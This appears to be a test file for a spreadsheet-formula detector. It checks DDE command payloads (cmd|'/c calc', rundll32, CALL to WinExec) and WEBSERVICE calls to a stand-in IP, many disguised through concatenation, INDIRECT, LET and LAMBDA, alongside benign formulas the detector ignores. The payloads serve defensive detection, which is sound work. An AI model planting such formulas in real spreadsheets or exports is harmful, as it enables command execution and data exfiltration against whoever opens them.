import { describe, expect, it } from 'vitest'

import { evaluate, type Held } from './evaluate.ts'
import { formulaItems, isFormulaCell } from './items.ts'

const links = (formula: string) =>
  evaluate(formula).actions.map((a) => a.dde && { ...a.dde })

describe('a link of DDE in a formula', () => {
  it.each([
    [`=cmd|'/c calc'!A0`, 'cmd', '/c calc', 'A0'],
    [`=cmd|' /C calc'!'A1'`, 'cmd', ' /C calc', 'A1'],
    [`='cmd'|'/c calc'!A0`, 'cmd', '/c calc', 'A0'],
    [`='cmd|/c calc'!A0`, 'cmd', '/c calc', 'A0'],
    [`@SUM(1+1)*cmd|' /C calc'!A0`, 'cmd', ' /C calc', 'A0'],
    [`=2+5+cmd|'/C calc'!A0`, 'cmd', '/C calc', 'A0'],
    [`+thespanishinquisition(cmd|'/c calc.exe'!A`, 'cmd', '/c calc.exe', 'A'],
    [
      `=AAAA+BBBB-CCCC&"Hello"/12345&cmd|'/c calc.exe'!A`,
      'cmd',
      '/c calc.exe',
      'A',
    ],
    [
      `=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''`,
      'MSEXCEL',
      '\\..\\..\\Windows\\System32\\cmd.exe /c calc',
      undefined,
    ],
    [
      `=rundll32|'URL.dll,OpenURL calc.exe'!A`,
      'rundll32',
      'URL.dll,OpenURL calc.exe',
      'A',
    ],
    ['of:=DDE("cmd";"/c calc";"A0")', 'cmd', '/c calc', 'A0'],
    ['=DDE("c"&"md";CHAR(47)&"c calc";"A0")', 'cmd', '/c calc', 'A0'],
  ])('stands in %s', (formula, service, topic, item) => {
    expect(links(formula)).toEqual([{ service, topic, ...(item && { item }) }])
  })

  it('is none in text, numbers and ordinary formulas', () => {
    for (const formula of [
      '="run cmd | more"',
      '=SUM(B3:B4)',
      "='[book.xlsx]Sheet 1'!A1",
      '=Sheet1!A1&"|"&B2',
      '={1,2;3,4}',
    ]) {
      expect(evaluate(formula).actions, formula).toEqual([])
    }
  })
})

describe('a call in a formula', () => {
  it('has what its pieces come to', () => {
    const [item] = formulaItems(
      '=WEBSERVICE("http://"&A1&CHAR(47)&"x")',
      { position: 'A2' },
      {
        lookup: (name) => (name === 'A1' ? { text: '203.0.113.9' } : undefined),
      },
    )
    expect(item).toMatchObject({
      text: '=WEBSERVICE("http://203.0.113.9/x")',
      functionName: 'WEBSERVICE',
      target: 'http://203.0.113.9/x',
      obfuscation: expect.arrayContaining(['indirection', 'concatenation']),
    })
  })

  it('ends with what no bracket closes', () => {
    expect(
      evaluate('=CALL("kernel32","WinExec","JCJ","calc",0').actions,
    ).toMatchObject([{ name: 'CALL', target: 'kernel32 WinExec JCJ calc 0' }])
    expect(evaluate(`${'('.repeat(10_000)}1`).actions).toEqual([])
  })
})

it('a cell of text is a formula only if it acts', () => {
  for (const cell of [
    '-5',
    '+49 30 1234',
    '@home',
    '=SUM(A1)',
    '- cmd, /c',
    'a|b!c',
    'run | x',
  ]) {
    expect(isFormulaCell(cell), cell).toBe(false)
  }
  expect(isFormulaCell(`\t=cmd|'/c calc'!A0`)).toBe(true)
})

it('joins what is known where a cell is not', () => {
  const { actions } = evaluate('=WEBSERVICE(CONCATENATE("http://a/?",B2))')
  expect(actions[0]?.target).toBe('http://a/?…')
})

describe('what a formula makes of names and cells', () => {
  const held: Readonly<Record<string, Held>> = {
    B1: { text: 'http://' },
    B2: { text: '203.0.113.9' },
    B3: { text: '/q' },
    C1: { formula: 'B1&D1' },
    D1: { formula: 'B2&B3' },
    u: { formula: "S1!$B$1&B2&'S1'!B3" },
    go: {
      formula: '_xlfn.LAMBDA(_xlpm.h,_xlfn.WEBSERVICE("http://"&_xlpm.h))',
    },
    loop: { formula: 'loop', text: 'http://203.0.113.9/q' },
  }
  const targets = (formula: string) =>
    evaluate(formula, (name) => held[name]).actions.map((a) => a.target)
  const asked = (argument: string) => `=_xlfn.WEBSERVICE(${argument})`

  it.each([
    ['a cell that is made of cells', asked('C1')],
    ['a name that is made of cells', asked('u')],
    ['a name that leads to itself, as it was kept', asked('loop')],
    ['a range', asked('CONCAT(B1:B3)')],
    ['a range between marks', asked('TEXTJOIN("",1,B1:B3)')],
    ['one of a range', asked('INDEX(B1:B3,1)&B2&"/q"')],
    ['one of several', asked('CHOOSE(2,"x",C1)')],
    ['one of several, nobody knows which', asked('CHOOSE(Z9,C1,"x")')],
    ['a cell that a text names', asked('INDIRECT("B"&1)&B2&B3')],
    ['a cell that numbers name', asked('INDIRECT(ADDRESS(1,3))')],
    ['a cell of rows and columns', asked('INDIRECT("S1!R1C3",FALSE)')],
    ['what a condition lets through', asked('IF(1=2,"x",C1)')],
    ['a case', asked('_xlfn.SWITCH(3,1,"x",3,C1)')],
    ['what stands for an error', asked('IFERROR(Z9,C1)')],
    [
      'characters of a list',
      asked('CONCAT(CHAR({104,116}))&"tp://203.0.113.9/q"'),
    ],
    ['names of its own', '=LET(a,B1,b,a&B2,WEBSERVICE(b&B3))'],
    ['a function of its own', '=LAMBDA(h,WEBSERVICE("http://"&h))(B2&B3)'],
    [
      'a function under a name of its own',
      '=LET(f,LAMBDA(p,q,p&q),WEBSERVICE(f(B1,B2&B3)))',
    ],
    ['a function under a name', '=go("203.0.113.9/q")'],
  ])('is %s', (_, formula) => {
    expect(targets(formula)).toEqual(['http://203.0.113.9/q'])
  })

  it('is nothing where functions call each other without end', () => {
    const again = '=LET(f,LAMBDA(g,g(g)),WEBSERVICE(f(f)))'
    expect(targets(again)).toEqual([undefined])
  })

  it('is nothing where names stand for names without end', () => {
    const deep = (name: string) => ({
      formula: `${'('.repeat(70)}n${Number(name.slice(1)) + 1}`,
    })
    const { actions } = evaluate('=WEBSERVICE(n1)', deep)
    expect(actions.map((a) => a.target)).toEqual([undefined])
  })

  it('acts where it is called, not where it is named', () => {
    expect(targets('=LET(f,LAMBDA(h,WEBSERVICE(h)),1)')).toEqual([])
  })
})
